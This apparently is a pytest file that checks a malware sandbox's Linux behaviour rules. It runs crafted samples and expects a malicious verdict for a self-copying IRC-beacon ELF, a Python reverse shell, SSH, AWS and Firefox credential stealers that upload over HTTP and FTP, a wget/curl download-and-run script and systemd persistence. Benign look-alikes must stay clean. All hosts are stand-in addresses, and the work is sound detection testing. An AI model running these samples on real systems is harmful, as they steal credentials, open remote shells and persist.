"""Linux behaviour rules on crafted samples detonated in the real sandbox (process backend):
the issue's held-out ELF (self-copy into ~/.local/bin, a raw-IP beacon on port 6667, a shell),
a reverse shell, a stealer that uploads decoy keys, a downloader that runs its download, and the
look-alikes that must stay clean (Python's own http/server.py run by hand, a tool that prints and
exits).
"""

from __future__ import annotations

import shutil
import sys
from pathlib import Path

import pytest

from behaviour_helpers import compile_elf, detail, events, ids, run_sample, sandbox_missing

SANDBOX = sandbox_missing()
GCC = None if shutil.which("gcc") else "gcc not installed"

ELF_BOT = r"""
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>
int main(void) {
    char dst[512], buf[65536];
    snprintf(dst, sizeof dst, "%s/.local/bin/dbus-daemon-helper", getenv("HOME"));
    int in = open("/proc/self/exe", O_RDONLY), out = open(dst, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    ssize_t n;
    while (in >= 0 && out >= 0 && (n = read(in, buf, sizeof buf)) > 0) write(out, buf, (size_t)n);
    if (in >= 0) close(in);
    if (out >= 0) close(out);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET; a.sin_port = htons(6667); a.sin_addr.s_addr = inet_addr("203.0.113.66");
    if (connect(s, (struct sockaddr *)&a, sizeof a) == 0) {
        const char *hello = "NICK bot4711\r\nUSER bot 0 * :bot\r\n";
        send(s, hello, strlen(hello), 0);
        recv(s, buf, sizeof buf, 0);
    }
    pid_t p = fork();
    if (p == 0) { execl("/bin/sh", "sh", "-c", "uname -a", (char *)0); _exit(127); }
    waitpid(p, 0, 0);
    close(s);
    return 0;
}
"""


@pytest.mark.sandbox
@pytest.mark.skipif(SANDBOX is not None or GCC is not None, reason=f"unavailable: {SANDBOX or GCC}")
def test_the_crafted_elf_self_copy_irc_beacon_and_shell_is_malicious(tmp_path):
    r = run_sample(tmp_path, compile_elf(tmp_path, ELF_BOT, "bot"), "update", timeout_s=60, stop_on_malicious=False)
    assert r["launcher"] == "elf" and r["executed"], r["execution"]
    assert r["verdict"] == "malicious" and r["score"] == 10, r["findings"]
    assert {"self_copy", "network_raw_ip", "c2_port", "irc_traffic", "shell_spawned", "reverse_shell",
            "combo_self_copy_c2", "combo_shell_c2"} <= ids(r)
    assert "/home/user/.local/bin/dbus-daemon-helper" in detail(r, "self_copy")
    assert "203.0.113.66:6667 (IRC port)" in detail(r, "c2_port")
    assert [(e["command"], e["args"]) for e in events(r, "irc")][:1] == [("NICK", "bot4711")]
    # each behaviour alone is not malicious: the combinations make it so
    single = [f for f in r["findings"] if not f["id"].startswith(("combo_", "reverse_shell", "irc_traffic"))]
    assert max(f["severity"] for f in single) < 7


REVERSE_SHELL = b"""import os, socket, subprocess
s = socket.create_connection(("198.51.100.23", 4444), timeout=5)
subprocess.run(["/bin/sh", "-c", "id; uname -a"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno(), timeout=5)
s.close()
"""


@pytest.mark.sandbox
@pytest.mark.skipif(SANDBOX is not None, reason=f"sandbox unavailable: {SANDBOX}")
def test_python_reverse_shell(tmp_path):
    r = run_sample(tmp_path, REVERSE_SHELL, "helper.py", timeout_s=30, stop_on_malicious=False)
    assert r["verdict"] == "malicious", r["findings"]
    assert {"reverse_shell", "network_raw_ip", "c2_port"} <= ids(r)
    assert "/bin/sh started by a process connected to a raw IP address" in detail(r, "reverse_shell")


STEALER = b"""import glob, os, urllib.request
home = os.path.expanduser("~")
loot = b""
for path in [home + "/.ssh/id_rsa", home + "/.aws/credentials"] + glob.glob(home + "/.mozilla/firefox/*/logins.json"):
    try:
        with open(path, "rb") as fh:
            loot += fh.read()
    except OSError:
        pass
body = (b"--x\\r\\nContent-Disposition: form-data; name=\\"f\\"; filename=\\"loot.txt\\"\\r\\n\\r\\n" + loot
        + b"\\r\\n--x--\\r\\n")
req = urllib.request.Request("http://collector.example-drop.test/upload", data=body, method="POST",
                             headers={"Content-Type": "multipart/form-data; boundary=x"})
urllib.request.urlopen(req, timeout=5).read()
"""


@pytest.mark.sandbox
@pytest.mark.skipif(SANDBOX is not None, reason=f"sandbox unavailable: {SANDBOX}")
def test_python_stealer_reads_decoy_keys_and_uploads_them(tmp_path):
    r = run_sample(tmp_path, STEALER, "report.py", timeout_s=30, stop_on_malicious=False)
    assert r["verdict"] == "malicious", r["findings"]
    assert {"credential_access", "http_upload", "combo_credentials_exfil"} <= ids(r)
    [post] = [e for e in events(r, "http") if e["method"] == "POST"]
    assert post["upload_files"] == ["loot.txt"] and post["url"] == "http://collector.example-drop.test/upload"


DOWNLOADER = b"""#!/bin/sh
cd /tmp
wget -q -O .x http://203.0.113.80/bins/x86.elf || curl -s -o .x http://203.0.113.80/bins/x86.elf || \\
python3 -c 'import urllib.request; open(".x", "wb").write(urllib.request.urlopen("http://203.0.113.80/bins/x86.elf").read())'
chmod +x .x
./.x
"""


@pytest.mark.sandbox
@pytest.mark.skipif(SANDBOX is not None, reason=f"sandbox unavailable: {SANDBOX}")
@pytest.mark.skipif(sys.platform != "linux", reason="the ELF stand-in is for Linux")
def test_shell_downloader_runs_the_elf_stand_in(tmp_path):
    r = run_sample(tmp_path, DOWNLOADER, "install.sh", timeout_s=30, stop_on_malicious=False)
    assert r["verdict"] == "malicious", r["findings"]
    assert {"download_execute", "downloads_executable", "network_raw_ip"} <= ids(r)
    [http] = [e for e in events(r, "http") if e["path"] == "/bins/x86.elf"][:1]
    assert (http["standin"], http["standin_by"]) == ("elf", "name")
    # the stand-in ran and exited 0
    assert any(e.get("path") == "/tmp/.x" for e in events(r, "exec"))


@pytest.mark.sandbox
@pytest.mark.slow
@pytest.mark.skipif(SANDBOX is not None, reason=f"sandbox unavailable: {SANDBOX}")
def test_pythons_own_http_server_module_run_by_hand_is_clean(tmp_path):
    """http/server.py run as a script serves on all addresses until stopped: a listener alone is no verdict."""
    import http.server

    r = run_sample(tmp_path, Path(http.server.__file__).read_bytes(), "server.py", timeout_s=8)
    assert r["executed"], r["execution"]
    assert r["verdict"] == "clean", r["findings"]
    assert "listens_for_connections" in ids(r) and r["score"] < 4


LOOPBACK_SERVER = b"""import socket, time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", 8765)); s.listen(1); time.sleep(0.5); s.close()
print("served nothing")
"""


@pytest.mark.sandbox
@pytest.mark.skipif(SANDBOX is not None, reason=f"sandbox unavailable: {SANDBOX}")
def test_a_loopback_listener_is_informational(tmp_path):
    r = run_sample(tmp_path, LOOPBACK_SERVER, "devserver.py", timeout_s=20)
    assert r["verdict"] == "clean", r["findings"]
    assert ids(r) == {"listens_loopback"}


@pytest.mark.sandbox
@pytest.mark.skipif(SANDBOX is not None, reason=f"sandbox unavailable: {SANDBOX}")
def test_an_elf_tool_that_prints_and_exits_is_clean(tmp_path):
    tool = shutil.which("uname") or "/bin/uname"
    r = run_sample(tmp_path, Path(tool).read_bytes(), "uname", timeout_s=20)
    assert r["executed"] and r["verdict"] == "clean" and r["findings"] == [], r["findings"]


FTP_EXFIL = b"""import ftplib, io, os
data = open(os.path.expanduser("~/.aws/credentials"), "rb").read()
f = ftplib.FTP("files.example-drop.test", timeout=10)
f.login("drop", "hunter2")
f.storbinary("STOR aws.txt", io.BytesIO(data))
f.quit()
"""


@pytest.mark.sandbox
@pytest.mark.skipif(SANDBOX is not None, reason=f"sandbox unavailable: {SANDBOX}")
def test_python_uploads_decoy_cloud_keys_over_ftp(tmp_path):
    r = run_sample(tmp_path, FTP_EXFIL, "sync.py", timeout_s=30, stop_on_malicious=False)
    assert r["verdict"] == "malicious", r["findings"]
    assert {"credential_access", "exfil_ftp_upload", "combo_credentials_exfil"} <= ids(r)
    [stor] = [e for e in events(r, "ftp") if e["command"] == "STOR"]
    assert stor["file"] == "aws.txt" and stor["bytes"] > 50 and stor["user"] == "drop"


SYSTEMD_BOT = b"""import json, os, urllib.request
ip = urllib.request.urlopen("http://api.ipify.org/?format=json", timeout=5).read()
unit = os.path.expanduser("~/.config/systemd/user/dbus-broker-helper.service")
os.makedirs(os.path.dirname(unit), exist_ok=True)
with open(unit, "w") as fh:
    fh.write("[Service]\\nExecStart=%h/.local/bin/helper\\n[Install]\\nWantedBy=default.target\\n")
"""


@pytest.mark.sandbox
@pytest.mark.skipif(SANDBOX is not None, reason=f"sandbox unavailable: {SANDBOX}")
def test_python_public_ip_lookup_and_a_systemd_user_unit(tmp_path):
    r = run_sample(tmp_path, SYSTEMD_BOT, "agent.py", timeout_s=30, stop_on_malicious=False)
    assert r["verdict"] == "malicious", r["findings"]
    assert {"public_ip_lookup", "persistence_systemd", "combo_persistence_c2"} <= ids(r)
    assert "self_copy" not in ids(r)  # Python reads its script twice: that is no copy of itself
